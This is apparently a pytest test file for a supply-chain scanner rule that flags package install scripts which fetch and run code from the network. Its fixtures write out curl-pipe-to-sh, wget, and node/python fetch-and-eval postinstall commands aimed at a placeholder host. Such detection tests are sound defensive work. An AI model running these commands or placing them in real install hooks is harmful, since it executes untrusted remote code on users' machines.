"""Locked packages with scripts of their own."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from tests.checks import places

if TYPE_CHECKING:
    from collections.abc import Callable

    from toolkit.model import Finding


LOCK = """{
  "lockfileVersion": 3,
  "packages": {
    "node_modules/plain": {"version": "1.0.0"},
    "node_modules/es5-ext": {"version": "0.10.64", "hasInstallScript": true}
  }
}"""


def test_one_finding_a_lock(inspect: Callable[..., list[Finding]]) -> None:
    pnpm = "packages:\n\n  /esbuild@0.20.0:\n    resolution: {integrity: x}\n    requiresBuild: true\n"
    found = inspect("install-script-present", {"a": {"package-lock.json": LOCK}, "b": {"pnpm-lock.yaml": pnpm}})

    assert places(found) == [("info", "a/package-lock.json", 5), ("info", "b/pnpm-lock.yaml", 3)]
    assert [one.evidence for one in found] == ["es5-ext", "esbuild"]


def test_what_is_allowed_is_quiet(inspect: Callable[..., list[Finding]]) -> None:
    settings = '[bootstrap]\ninstall-scripts = { npm = ["es5-ext"] }\n'

    assert inspect("install-script-present", {"toolkit.toml": settings, "package-lock.json": LOCK}) == []


def test_scripts_of_ones_own_that_run_what_the_network_gives(inspect: Callable[..., list[Finding]]) -> None:
    text = '{"scripts": {\n"postinstall": "curl -sL https://x.example.org/i.sh | sh",\n"prepare": "husky",\n"build": "curl x | sh"}}'
    other = '{"scripts": {\n"preinstall": "bash -c \\"$(wget -qO- https://x.example.org)\\""}}'

    found = inspect("install-script-present", {"package.json": text, "a": {"package.json": other}})

    assert [(one.severity, one.path, one.line) for one in found] == [
        ("warning", "a/package.json", 2),
        ("warning", "package.json", 2),
    ]


def test_downloads_in_a_line_of_code_and_downloads_that_are_run_next(inspect: Callable[..., list[Finding]]) -> None:
    scripts = [
        "node -e \\\"require('https').get('https://x.example.org/a.js', r => r.pipe(require('fs').createWriteStream('a.js')))\\\"",
        "node --eval \\\"fetch('https://x.example.org').then(r => r.text()).then(eval)\\\"",
        "python3 -c \\\"import urllib.request as u; exec(u.urlopen('https://x.example.org').read())\\\"",
        "curl -fsSL https://x.example.org/i.sh -o i.sh && chmod +x i.sh && ./i.sh",
        "wget -O i.js https://x.example.org/i.js; node i.js",
    ]
    fine = [
        "node -e \\\"try{require('husky')}catch{}\\\"",
        "node scripts/fetch.js",
        "curl -o data.json https://x.example.org/data.json",
        'python3 -c \\"print(1)\\"',
        "node -e " + "x" * 100_000,
    ]

    def tree(texts: list[str]) -> dict[str, object]:
        return {
            f"p{at}": {"package.json": f'{{"scripts": {{\n"postinstall": "{text}"}}}}'} for at, text in enumerate(texts)
        }

    assert [(one.severity, one.path) for one in inspect("install-script-present", tree(scripts))] == [
        ("warning", f"p{at}/package.json") for at in range(len(scripts))
    ]
    assert inspect("install-script-present", tree(fine)) == []


@pytest.mark.parametrize(
    ("script", "severity"),
    [
        ("npx --yes patch-package@latest", "warning"),
        ("husky && npx -y some-tool", "warning"),
        ("CI=1 pnpm dlx @acme/tool", "warning"),
        ("yarn dlx tool@^2", "warning"),
        ("bunx tool", "warning"),
        ("npx patch-package", ""),
        ("npx prisma generate", ""),
        ("npx --yes other-tool@3.1.4", ""),
        ("npx only-allow pnpm", ""),
        ("npx husky install", ""),
        (r"""node -e \"require('child_process').execSync('pm2 install x')\" """, "info"),
        ("npm install -g typescript", "info"),
        ("brew install libpq || true", "info"),
        ("node-gyp rebuild || exit 0", "info"),
        ("npx " + "-y " * 20_000, ""),
    ],
)
def test_install_scripts_that_fetch_or_change_the_machine(
    inspect: Callable[..., list[Finding]], script: str, severity: str
) -> None:
    root = '{"devDependencies": {"patch-package": "8.0.0"}}'
    member = f'{{"dependencies": {{"@prisma/client": "5", "prisma": "5"}}, "scripts": {{\n"postinstall": "{script}"}}}}'

    found = inspect("install-script-present", {"package.json": root, "a": {"package.json": member}})

    assert [(one.severity, one.path, one.line) for one in found] == (
        [(severity, "a/package.json", 2)] if severity else []
    )


def test_an_addon_that_is_there(inspect: Callable[..., list[Finding]]) -> None:
    tree = {"binding.gyp": "{}", "package.json": '{"scripts": {"install": "node-gyp rebuild"}}'}

    assert inspect("install-script-present", tree) == []


@pytest.mark.parametrize(
    ("name", "lock"),
    [
        ("bun.lock", '{"packages": {"sdk": ["sdk@1.0.0", "", { "bin": { "sdk-setup": "a.js", "sdk": "b.js" } }]}}'),
        ("package-lock.json", '{"packages": {"node_modules/of-sdk": {\n"bin": {\n"sdk-setup": "a.js"\n}}}}'),
        ("yarn.lock", '__metadata:\n  version: 8\n\n"of-sdk@npm:1":\n  version: 1.0.0\n  bin:\n    sdk-setup: a.js\n'),
    ],
)
def test_a_program_that_a_locked_package_brings_is_not_fetched(
    inspect: Callable[..., list[Finding]], name: str, lock: str
) -> None:
    scripts = {"postinstall": "bunx sdk-setup", "prepare": "bunx other-setup"}
    tree = {"package.json": json.dumps({"dependencies": {"sdk": "1"}, "scripts": scripts}), name: lock}

    assert [one.message.partition(" and runs")[0] for one in inspect("install-script-present", tree)] == [
        "prepare fetches other-setup"
    ]
